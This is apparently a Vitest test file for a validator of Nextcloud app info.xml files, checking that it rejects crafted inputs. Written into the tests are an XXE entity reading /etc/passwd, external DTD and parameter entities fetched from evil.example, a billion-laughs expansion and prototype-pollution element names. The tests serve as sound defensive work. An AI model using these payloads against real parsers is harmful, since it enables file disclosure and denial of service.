import { beforeAll, describe, expect, it } from "vitest";
import { checkInfoXml, type CheckInfoXmlOptions } from "../../src/artifact/inspect/nextcloud/check-info-xml.ts";
import { MAX_INFO_XML_BYTES } from "../../src/artifact/inspect/nextcloud/decode-info-xml.ts";
import { parseInfoXml } from "../../src/artifact/inspect/nextcloud/parse-info-xml.ts";
import { readCorpusXml } from "../inspect/nextcloud-archives.ts";

/**
 * info.xml (issue 9): every attack is written into the real `appinfo/info.xml` of Nextcloud
 * Notes from `../shared/corpus`. Without the app store's info.xsd (`NO_SCHEMA`) where the
 * point is that our own reader refuses the input, not the schema after it.
 */
const FILE = "notes-6.0.2.tar.gz!notes/appinfo/info.xml";
const NO_SCHEMA: CheckInfoXmlOptions = { readReference: () => Promise.resolve(undefined) };
let notes: string;
beforeAll(async () => {
  notes = (await readCorpusXml("apps/notes/appinfo/info.xml")).toString("utf8");
});

/** The real file with `from` replaced by `to` (throws when `from` is absent, so a test cannot silently stop attacking). */
function notesWith(from: string | RegExp, to: string): string {
  const next = notes.replace(from, to);
  if (next === notes) throw new Error(`${String(from)} not in notes' info.xml`);
  return next;
}

async function errorIds(xml: string | Buffer, options: CheckInfoXmlOptions = NO_SCHEMA): Promise<string[]> {
  const { diagnostics } = await checkInfoXml(xml, FILE, options);
  return [...new Set(diagnostics.filter((d) => d.severity === "error").map((d) => d.ruleId))];
}

describe("info.xml: DOCTYPE and entities", () => {
  it("accepts the real file (the base of every attack)", async () => {
    expect(await errorIds(notes)).toEqual([]);
  });

  it.each([
    [
      "an external entity (XXE) reading /etc/passwd",
      '<!DOCTYPE info [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<info>',
      "<id>notes</id>",
      "<id>&xxe;</id>",
    ],
    [
      "an external DTD fetched over the network",
      '<!DOCTYPE info SYSTEM "https://evil.example/info.dtd">\n<info>',
      "",
      "",
    ],
    ["a parameter entity", '<!DOCTYPE info [<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]>\n<info>', "", ""],
    [
      "entity expansion (billion laughs)",
      `<!DOCTYPE info [<!ENTITY l0 "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join("")}]>\n<info>`,
      "<summary>",
      "<summary>&l9;",
    ],
    ["a DOCTYPE in lower case", "<!doctype info>\n<info>", "", ""],
  ])("refuses %s before any parser runs", async (_name, prologue, from, to) => {
    const xml = (from === "" ? notes : notesWith(from, to)).replace(/<info\b[^>]*>/, prologue);
    expect(await errorIds(xml)).toEqual(["nextcloud/xml-doctype"]);
  });
});

describe("info.xml: size, attributes and encodings", () => {
  it("refuses a file with a huge attribute over the size cap, before parsing", async () => {
    const xml = notesWith(/<author([ >])/, `<author homepage="https://x.example/${"a".repeat(MAX_INFO_XML_BYTES)}"$1`);
    expect(await errorIds(xml)).toEqual(["nextcloud/info-xml-too-large"]);
  });

  it("reads a huge attribute under the cap without crashing, and the schema refuses it", async () => {
    const xml = notesWith(/<author([ >])/, `<author mail="${"a".repeat(400 * 1024)}"$1`);
    const { diagnostics } = await checkInfoXml(xml, FILE);
    expect(diagnostics.map((d) => d.ruleId)).toContain("nextcloud/xsd");
  });

  it("refuses bytes that are not UTF-8: UTF-16 with a BOM (its own rule, issue 13), and ISO-8859-1", async () => {
    expect(await errorIds(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(notes, "utf16le")]))).toEqual([
      "nextcloud/xml-utf16",
    ]);
    expect(await errorIds(Buffer.from(notesWith("<name>Notes</name>", "<name>Notés</name>"), "latin1"))).toEqual([
      "nextcloud/xml-syntax",
    ]);
  });

  it("refuses a declared encoding other than UTF-8, which libxml2 would follow and read other text", async () => {
    const xml = notesWith(/^<\?xml[^>]*\?>/, '<?xml version="1.0" encoding="ISO-8859-1"?>').replace(
      "<name>Notes</name>",
      "<name>Notés</name>",
    );
    expect(await errorIds(xml)).toEqual(["nextcloud/xml-encoding"]);
    expect(await errorIds(notesWith('encoding="utf-8"', 'encoding="UTF-8"'))).toEqual([]);
  });
});

describe("info.xml: parser traps", () => {
  it.each(["__proto__", "constructor", "prototype"])(
    "refuses an element named %s, and Object.prototype stays clean",
    async (name) => {
      const xml = notesWith(
        "<id>notes</id>",
        `<id>notes</id>\n<${name}><polluted>yes</polluted><isAdmin>true</isAdmin></${name}>`,
      );
      expect(await errorIds(xml)).toEqual(["nextcloud/xml-reserved-name"]);
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    },
  );

  it("an attribute named __proto__ stays data: attributes are prefixed '@_', so nothing reaches a prototype", async () => {
    await checkInfoXml(notesWith("<author", '<author __proto__="polluted"'), FILE, NO_SCHEMA);
    expect(Object.getPrototypeOf({})).toBe(Object.prototype);
    expect(Object.keys(Object.prototype)).toEqual([]);
  });

  it("refuses malformed XML that fast-xml-parser alone would accept", async () => {
    expect(await errorIds(notesWith("</id>", "</idx>"))).toEqual(["nextcloud/xml-syntax"]);
    expect(await errorIds(notesWith("<info", "<info a='1' a='2'"))).toEqual(["nextcloud/xml-syntax"]);
  });

  it("refuses an element info.xsd allows once written twice (fast-xml-parser would make it a list silently)", async () => {
    const xml = notesWith(/<version>([^<]*)<\/version>/, "<version>$1</version>\n<version>99.0.0</version>");
    const { diagnostics } = await checkInfoXml(xml, FILE, NO_SCHEMA);
    expect(diagnostics).toEqual([
      expect.objectContaining({
        ruleId: "nextcloud/duplicate-element",
        message: "<version> appears 2 times; info.xsd allows it once",
      }),
    ]);
  });

  it("keeps values as written: 1.10 stays '1.10', 1e3 stays '1e3', entities are not expanded twice", () => {
    const info = parseInfoXml(
      '<info><id>1e3</id><version>1.10</version><summary>&amp;lt;b&amp;gt;</summary><dependencies><nextcloud min-version="30" max-version="31.0"/></dependencies></info>',
    );
    expect(info).toMatchObject({
      id: "1e3",
      version: "1.10",
      summaries: [{ text: "&lt;b&gt;" }],
      nextcloud: { min: "30", max: "31.0" },
    });
  });
});
